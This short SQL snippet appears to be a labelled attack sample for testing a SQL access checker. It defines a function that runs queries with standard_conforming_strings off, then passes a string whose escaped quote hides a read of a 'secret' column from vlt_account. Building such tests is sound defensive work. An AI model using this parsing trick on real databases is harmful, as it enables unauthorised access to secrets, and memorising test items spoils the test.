-- Runs text in a function that turns the standard meaning of backslashes off.
-- wants: read
-- attack:
CREATE FUNCTION run_odd(sql text) RETURNS SETOF text LANGUAGE plpgsql
  SET standard_conforming_strings = off AS 'BEGIN RETURN QUERY EXECUTE sql; END';
-- together
SELECT run_odd($$SELECT 'a\'' || secret FROM vlt_account --'$$)
